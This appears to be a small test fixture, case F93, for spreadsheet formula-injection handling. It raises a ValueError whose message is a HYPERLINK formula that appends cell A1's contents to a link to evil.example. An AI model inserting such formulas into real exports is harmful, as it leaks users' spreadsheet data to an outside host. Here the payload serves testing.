# F93: raises an error whose message is a formula; no CSV yet, and what is said of an error begins with the error's name
# expect = "error"
# reason = "ValueError: =HYPERLINK"
raise ValueError("=HYPERLINK(\"https://evil.example\"&A1,\"score\")")
